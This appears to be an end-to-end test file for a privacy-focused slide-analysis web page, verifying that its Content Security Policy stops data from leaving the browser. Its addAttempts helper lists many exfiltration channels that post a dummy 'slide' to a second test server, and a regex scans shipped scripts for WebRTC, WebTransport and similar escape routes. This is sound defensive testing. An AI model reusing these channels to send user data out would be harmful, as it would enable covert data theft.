import { readdir, readFile } from "node:fs/promises";
import type { Browser, BrowserContext, Page } from "playwright";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { type SlideHost, startSlideHost } from "../support/slide-host.ts";
import { tissuePng } from "./made-files.ts";
import { downloadOf, finishRun, launchBrowser, partsOf } from "./open-page.ts";

const DIST = new URL("../../dist/", import.meta.url).pathname;
/** Sixty megabytes over a line that other tests use too. */
const KEPT_LIMIT_MS = 60_000;
/** No slide of ours: it must turn up nowhere but in the page itself. */
const SLIDE_NAME = "Doe^Jane 1970-01-01 H26-4711.png";
const PRIVATE = /jane|1970-01|h26-4711/i;
/** What the tool that drives the browser says of the service worker that it blocks. */
const BLOCKED_BY_TEST = "Service Worker registration blocked by Playwright";

let browser: Browser;
let host: SlideHost;
/** Another server, that nothing shall ever reach. */
let elsewhere: SlideHost;

beforeAll(async () => {
  browser = await launchBrowser();
  [host, elsewhere] = await Promise.all([startSlideHost(DIST), startSlideHost(null, "/")]);
});
afterAll(async () => {
  await browser.close();
  await Promise.all([host.close(), elsewhere.close()]);
});

interface Watched {
  readonly context: BrowserContext;
  readonly page: Page;
  /** Everything that the console and uncaught errors said, of the page and of its workers. */
  readonly said: readonly string[];
  /** Addresses that were asked for, but those of blobs, which go nowhere. */
  readonly asked: readonly string[];
  violations(): Promise<readonly string[]>;
}

/** The page on the plain host; whatever it asks for, says or is refused is remembered. */
async function watch(options: { readonly serviceWorkers: "allow" | "block" }): Promise<Watched> {
  const context = await browser.newContext({ viewport: { width: 1280, height: 860 }, ...options });
  const said: string[] = [];
  const asked: string[] = [];
  context.on("request", (request) => !request.url().startsWith("blob:") && asked.push(request.url()));
  context.on("console", (message) => said.push(message.text()));
  await context.addInitScript(() => {
    const found: string[] = [];
    Reflect.set(window, "violations", found);
    document.addEventListener("securitypolicyviolation", (event) =>
      found.push(`${event.effectiveDirective} ${event.blockedURI}`),
    );
  });
  const page = await context.newPage();
  page.on("pageerror", (error) => said.push(error.message));
  await page.goto(host.address);
  return { context, page, said, asked, violations: () => page.evaluate("violations") };
}

/** As a person would: the demo, an own slide, a run of it, every export. */
async function wholeJourney(page: Page): Promise<void> {
  const parts = partsOf(page);
  await parts.demoSlide.click();
  await parts.analyze.and(page.locator(":enabled")).waitFor({ timeout: 30_000 });
  await parts.file.setInputFiles(tissuePng(SLIDE_NAME, 300, 200));
  await page.getByText(SLIDE_NAME).first().waitFor();
  await parts.pixelSize.fill("10");
  await parts.pixelSize.press("Enter");
  await parts.analyze.and(page.locator(":enabled")).click();
  await finishRun(page);
  for (const button of ["Export GeoJSON", "Export CSV", "Export image", "Export confidence"])
    await downloadOf(page, button);
}

describe("a whole journey with an own slide", () => {
  it("asks no server but its own, is refused nothing, and says nothing of the slide anywhere", async () => {
    const { context, page, said, asked, violations } = await watch({ serviceWorkers: "block" });
    await wholeJourney(page);
    const letter = { name: SLIDE_NAME.replace("png", "svs"), mimeType: "", buffer: Buffer.from("a letter") };
    await partsOf(page).file.setInputFiles(letter);
    await partsOf(page).alert.waitFor();
    expect(asked.filter((url) => !url.startsWith(host.address))).toEqual([]);
    expect(await violations()).toEqual([]);
    const traces = await page.evaluate(() => ({
      title: document.title,
      href: location.href,
      history: [history.length, JSON.stringify(history.state)],
      local: JSON.stringify({ ...localStorage }),
      session: JSON.stringify({ ...sessionStorage }),
      cookie: document.cookie,
      name: window.name,
    }));
    expect(JSON.stringify(traces)).not.toMatch(PRIVATE);
    expect(traces).toMatchObject({ title: "Palisade", href: host.address, local: "{}", session: "{}", cookie: "" });
    expect(asked.filter((url) => PRIVATE.test(url))).toEqual([]);
    expect(said.filter((text) => text !== BLOCKED_BY_TEST)).toEqual([]);
    await context.close();
  });

  it("asks no server at all once the page is loaded", async () => {
    const { context, page } = await watch({ serviceWorkers: "allow" });
    await page.getByRole("status", { name: "Offline" }).getByText("Offline ready").waitFor({ timeout: KEPT_LIMIT_MS });
    host.log.length = 0;
    await wholeJourney(page);
    expect(host.log).toEqual([]);
    expect(await page.getByRole("button", { name: "Requests" }).textContent()).toBe("0 requests since load");
    await context.close();
  });
});

describe("the counter", () => {
  it("says as many requests as the server saw, of the page and of its workers", async () => {
    host.log.length = 0;
    const { context, page } = await watch({ serviceWorkers: "block" });
    await wholeJourney(page);
    const counter = page.getByRole("button", { name: "Requests" });
    await expect.poll(() => counter.textContent()).toMatch(/^[1-9]\d* requests since load$/);
    await counter.click();
    const list = page.getByRole("dialog", { name: "Requests since load" });
    const numbers = async () => {
      const text = (await list.textContent()) ?? "";
      return Number(/(\d+) requests? over/.exec(text)?.[1]) + Number(/(\d+) to load the page/.exec(text)?.[1]);
    };
    // The icon of the tab is the browser's own wish, which it keeps out of its record.
    const served = () => host.log.filter(({ path }) => path !== "icon.svg").length;
    await expect.poll(async () => (await numbers()) - served()).toBe(0);
    expect(await list.textContent()).toContain("None to another server");
    await context.close();
  });
});

/** Ways out, as a script of the page would try them. */
function addAttempts(page: Page): Promise<void> {
  return page.evaluate(() => {
    const add = (name: string, properties: Record<string, string>) =>
      document.body.append(Object.assign(document.createElement(name), properties));
    Reflect.set(window, "attempts", {
      fetch: (url: string) => fetch(url, { method: "POST", mode: "no-cors", body: "a slide" }),
      xhr(url: string) {
        const request = new XMLHttpRequest();
        request.open("POST", url);
        request.send("a slide");
      },
      image: (url: string) => Object.assign(new Image(), { src: `${url}?a-slide` }),
      beacon: (url: string) => navigator.sendBeacon(url, "a slide"),
      socket: (url: string) => new WebSocket(url.replace("http", "ws")),
      stream: (url: string) => new EventSource(url),
      form(url: string) {
        const form = Object.assign(document.createElement("form"), { action: url, method: "post" });
        document.body.append(form);
        form.submit();
      },
      frame: (url: string) => add("iframe", { src: url }),
      prefetch: (url: string) => add("link", { rel: "prefetch", href: url }),
      preload: (url: string) =>
        document.body.append(Object.assign(document.createElement("link"), { rel: "preload", as: "image", href: url })),
      script: (url: string) => add("script", { src: url }),
      style: (url: string) => add("link", { rel: "stylesheet", href: url }),
      object: (url: string) => add("object", { data: url }),
      media: (url: string) => add("video", { src: url }),
      ping(url: string) {
        const link = Object.assign(document.createElement("a"), { href: "#", ping: url });
        document.body.append(link);
        link.click();
      },
      worker: (url: string) => new Worker(url),
      base: (url: string) => document.head.prepend(Object.assign(document.createElement("base"), { href: url })),
    });
  });
}

describe("a deliberate attempt to send something to another server", () => {
  let watched: Watched;
  beforeEach(async () => {
    watched = await watch({ serviceWorkers: "block" });
    await addAttempts(watched.page);
    elsewhere.log.length = 0;
  });
  afterEach(() => watched.context.close());

  /** The directive that the browser names, within two seconds. */
  function directiveOf(attempt: string): Promise<string | null> {
    return watched.page.evaluate(
      async ({ code, address }) => {
        const refused = new Promise<string>((resolve) => {
          document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
        });
        const late = new Promise<null>((resolve) => setTimeout(() => resolve(null), 2_000));
        // The test runs it as the browser's own tools would, which stand above the page's policy.
        const send = Reflect.get(window, "attempts")[code];
        await Promise.resolve(send(address)).catch(() => undefined);
        return Promise.race([refused, late]);
      },
      { code: attempt, address: elsewhere.address },
    );
  }

  it.each([
    ["by fetch", "fetch", "connect-src"],
    ["by XMLHttpRequest", "xhr", "connect-src"],
    ["in the address of an image", "image", "img-src"],
    ["by a beacon", "beacon", "connect-src"],
    ["by a WebSocket", "socket", "connect-src"],
    ["by an event stream", "stream", "connect-src"],
    ["by a form", "form", "form-action"],
    ["by a frame", "frame", "frame-src"],
    ["by a prefetch link", "prefetch", "default-src"],
    ["by a preload link", "preload", "img-src"],
    ["by a script", "script", "script-src-elem"],
    ["by a style sheet", "style", "style-src-elem"],
    ["by an object", "object", "object-src"],
    ["by a video", "media", "media-src"],
    ["by the ping of a link", "ping", "connect-src"],
    ["by moving the page's base", "base", "base-uri"],
  ])("%s is stopped by the policy", async (_, attempt, directive) => {
    expect(await directiveOf(attempt)).toBe(directive);
    expect(elsewhere.log).toEqual([]);
  });

  it("by every worker of the page, however deep, is stopped by the policy", async () => {
    const { page } = watched;
    await partsOf(page).demoSlide.click();
    await partsOf(page).analyze.and(page.locator(":enabled")).click();
    await partsOf(page).cancel.waitFor();
    const names = () => page.workers().length;
    await expect.poll(names).toBeGreaterThanOrEqual(2);
    const findings = await Promise.all(
      page.workers().map((worker) =>
        worker.evaluate(async (url) => {
          const refused = new Promise<string>((resolve) => {
            self.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
          });
          const late = new Promise<string>((resolve) => setTimeout(() => resolve("nothing"), 5_000));
          await fetch(url, { method: "POST", mode: "no-cors", body: "a slide" }).catch(() => undefined);
          return Promise.race([refused, late]);
        }, elsewhere.address),
      ),
    );
    expect(new Set(findings)).toEqual(new Set(["connect-src"]));
    expect(elsewhere.log).toEqual([]);
  });
});

describe("the test that anybody can make", () => {
  it("names every way out as stopped, the policy, and the page's files as equal to the release", async () => {
    const { context, page } = await watch({ serviceWorkers: "block" });
    await page.getByRole("button", { name: "Requests" }).click();
    await page.getByRole("button", { name: "Test it yourself" }).click();
    const panel = page.getByRole("dialog", { name: "Test it yourself" });
    await panel.getByRole("button", { name: "Test", exact: true }).click();
    await panel.getByText(/^All \d+ ways out were stopped by the browser\. Nothing was sent\.$/).waitFor();
    expect(await panel.getByText(/^analysis worker$/).count()).toBe(1);
    expect(await panel.locator(".policy").textContent()).toMatch(/^default-src 'none';/);
    await panel.getByText(/^Release [\d.]+: \d+ files hashed, all equal/).waitFor();
    const report = await panel.getByLabel("Report").inputValue();
    expect(report).toMatch(/SHA-256 of release\.json [0-9a-f]{64}/);
    expect(report).toMatch(/Requests over the network: \d+ to load the page, \d+ since, 0 to another server/);
    await context.close();
  });

  it("works with the network unplugged, and reports nothing of the slide", async () => {
    const { context, page } = await watch({ serviceWorkers: "allow" });
    await page.getByRole("status", { name: "Offline" }).getByText("Offline ready").waitFor({ timeout: KEPT_LIMIT_MS });
    await partsOf(page).file.setInputFiles(tissuePng(SLIDE_NAME, 300, 200));
    await page.getByText(SLIDE_NAME).first().waitFor();
    await context.setOffline(true);
    await page.getByRole("button", { name: "Keyboard keys" }).click();
    await page.getByRole("button", { name: /Test it yourself/ }).click();
    const panel = page.getByRole("dialog", { name: "Test it yourself" });
    await panel.getByRole("button", { name: "Test", exact: true }).click();
    await panel.getByText(/ways out were stopped by the browser/).waitFor({ timeout: 30_000 });
    await panel.getByText(/files hashed, all equal/).waitFor({ timeout: 30_000 });
    const report = await panel.getByLabel("Report").inputValue();
    expect(report).toContain("without a network");
    expect(report).toMatch(/, 0 since, 0 to another server/);
    expect(report).not.toMatch(PRIVATE);
    await context.close();
  });
});

describe("ways out that no policy of today's browsers covers", () => {
  it("are in none of the scripts that are shipped", async () => {
    const names = (await readdir(DIST, { recursive: true })).filter((name) => /\.m?js$/.test(name));
    expect(names.length).toBeGreaterThan(10);
    for (const name of names) {
      const script = await readFile(`${DIST}${name}`, "utf8");
      expect([name, /RTCPeerConnection|WebTransport|window\.open\(|preconnect|dns-prefetch/.exec(script)?.[0]]).toEqual(
        [name, undefined],
      );
    }
  });
});
